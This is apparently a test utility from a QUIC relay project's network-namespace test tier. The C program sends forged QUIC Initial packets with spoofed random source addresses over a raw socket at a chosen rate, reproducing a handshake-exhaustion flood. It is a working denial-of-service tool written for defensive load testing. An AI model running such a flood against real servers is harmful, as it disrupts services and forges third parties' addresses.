/*
 * qflood: a flood of forged QUIC Initial packets for the netns tier.
 *
 *   qflood TARGET PORT RATE SECONDS SRC_PREFIX/LEN
 *
 * Each packet is a real client's first flight (ngtcp2 0.12 with our GnuTLS
 * client session: a valid Initial with a ClientHello, fresh connection ids
 * every time), sent from a random address of SRC_PREFIX and a random port
 * through a raw IPv4 socket (IP_HDRINCL: root, and only inside a network
 * namespace the test made). The relay can decrypt it and would start a
 * handshake that nobody finishes: the attack of issue 13. Prints the number
 * of packets sent.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <ngtcp2/ngtcp2_crypto.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "wtrelay/rng.h"
#include "wtrelay/tls.h"

#include "../common/quic_initial.h"

static uint64_t now_ns(void)
{
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

static uint16_t csum(const uint8_t *p, size_t n)
{
  uint32_t s = 0;
  for (size_t i = 0; i + 1 < n; i += 2)
    s += (uint32_t)(p[i] << 8 | p[i + 1]);
  while (s >> 16)
    s = (s & 0xffff) + (s >> 16);
  return (uint16_t)~s;
}

int main(int argc, char **argv)
{
  if (argc != 6) {
    fprintf(stderr, "usage: qflood TARGET PORT RATE SECONDS SRC_PREFIX/LEN\n");
    return 2;
  }
  struct sockaddr_in dst = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2]))};
  if (inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1)
    return 2;
  double rate = atof(argv[3]), secs = atof(argv[4]);
  char pfx[64];
  snprintf(pfx, sizeof(pfx), "%s", argv[5]);
  char *slash = strchr(pfx, '/');
  if (!slash)
    return 2;
  *slash = 0;
  int plen = atoi(slash + 1);
  struct in_addr base;
  if (inet_pton(AF_INET, pfx, &base) != 1 || plen < 8 || plen > 30)
    return 2;
  uint32_t span = 1u << (32 - plen), b = ntohl(base.s_addr) & ~(span - 1);
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    perror("qflood: raw socket (root, in the test's namespace)");
    return 1;
  }
  uint8_t pkt[1600];
  uint64_t t0 = now_ns(), sent = 0;
  for (;;) {
    double el = (double)(now_ns() - t0) / 1e9;
    if (el >= secs)
      break;
    uint64_t due = (uint64_t)(el * rate) + 1;
    while (sent < due) {
      uint32_t r;
      rng_fill(&r, sizeof(r));
      struct sockaddr_in src = {.sin_family = AF_INET,
                                .sin_port = htons((uint16_t)(1024 + r % 60000)),
                                .sin_addr.s_addr = htonl(b + 1 + (r >> 8) % (span - 2))};
      size_t n = quic_client_initial(pkt + 28, sizeof(pkt) - 28, &src, &dst);
      if (!n)
        return 1;
      uint8_t *ip = pkt, *udp = pkt + 20;
      memset(ip, 0, 20);
      ip[0] = 0x45;
      ip[2] = (uint8_t)((28 + n) >> 8);
      ip[3] = (uint8_t)(28 + n);
      ip[8] = 64;
      ip[9] = IPPROTO_UDP;
      memcpy(ip + 12, &src.sin_addr, 4);
      memcpy(ip + 16, &dst.sin_addr, 4);
      uint16_t c = csum(ip, 20);
      ip[10] = (uint8_t)(c >> 8);
      ip[11] = (uint8_t)c;
      memcpy(udp, &src.sin_port, 2);
      memcpy(udp + 2, &dst.sin_port, 2);
      udp[4] = (uint8_t)((8 + n) >> 8);
      udp[5] = (uint8_t)(8 + n);
      udp[6] = udp[7] = 0; /* no UDP checksum (allowed over IPv4) */
      if (sendto(fd, pkt, 28 + n, 0, (struct sockaddr *)&dst, sizeof(dst)) < 0) {
        perror("qflood: sendto");
        return 1;
      }
      sent++;
    }
    usleep(1000);
  }
  printf("%llu\n", (unsigned long long)sent);
  return 0;
}
